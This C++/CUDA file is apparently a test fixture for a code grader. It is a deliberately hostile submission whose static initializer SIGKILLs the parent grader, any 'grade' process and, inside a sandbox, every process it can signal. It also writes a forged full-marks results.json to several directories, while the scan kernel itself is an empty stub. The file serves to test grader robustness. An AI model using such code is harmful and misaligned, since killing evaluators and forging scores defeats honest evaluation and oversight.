// ATTACK: a static initializer, which runs inside the runner before its main, tries to kill the
//      grader and leave its own results behind:
//      - SIGKILL to its parent (the grader, where nothing stands between them);
//      - SIGKILL to every process named "grade" it can see in /proc;
//      - SIGKILL to every process it may signal, kill(-1, SIGKILL), but only where this process is
//        evidently in a PID namespace of its own (pid below 300, which the kernel never hands out
//        again in the initial namespace once it has booted): without a sandbox this test fails
//        through the other attacks rather than killing every process of the user running it;
//      - a forged results.json claiming full marks, written to the working directory, its parents
//        (where `grade --work-dir W --output W/../results.json` would put it) and /tmp.
//      The launcher is a stub that writes nothing.
// EXPECTED VERDICT: grade is not killed, exits by itself and writes its own results: the exercise
//      is graded and scores 0; no forged results.json is left in the grader's work directory.

#include <cuda_runtime.h>

#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include <dirent.h>
#include <unistd.h>

namespace {

const char* forged_results = R"({"schema_version":1,"grader_version":"0.1.0","started_at":"2024-01-01T00:00:00Z",
"submission":"forged","device":"forged","compute_capability":"9.0","points":10,"max_points":10,"seconds":1,
"exercises":[{"name":"scan_kogge_stone","status":"graded","message":"","source":"scan_kogge_stone.cu",
"points":10,"max_points":10,"correctness_points":8,"speed_points":2,"compile_seconds":1,"compile_output":"",
"library_use":[],"runner_output":"","seconds":1,"cases":[]}]}
)";

struct KillAtStartup {
    KillAtStartup()
    {
        const pid_t parent = ::getppid();
        if (parent > 1) ::kill(parent, SIGKILL);

        if (DIR* proc = ::opendir("/proc")) {
            while (const dirent* entry = ::readdir(proc)) {
                const pid_t pid = static_cast<pid_t>(std::atoi(entry->d_name));
                if (pid <= 1 || pid == ::getpid()) continue;
                char comm[64] = {};
                const std::string path = std::string("/proc/") + entry->d_name + "/comm";
                if (FILE* file = std::fopen(path.c_str(), "r")) {
                    if (std::fgets(comm, sizeof comm, file) != nullptr && std::strcmp(comm, "grade\n") == 0)
                        ::kill(pid, SIGKILL);
                    std::fclose(file);
                }
            }
            ::closedir(proc);
        }

        if (::getpid() < 300) ::kill(-1, SIGKILL);

        for (const char* path : {"results.json", "../results.json", "../../results.json", "../../../results.json",
                                 "/tmp/results.json"})
            if (FILE* file = std::fopen(path, "w")) {
                std::fputs(forged_results, file);
                std::fclose(file);
            }
    }
} kill_at_startup;

}  // namespace

void scan_kogge_stone(const float* in, float* out, int n)
{
    (void)in, (void)out, (void)n;
}
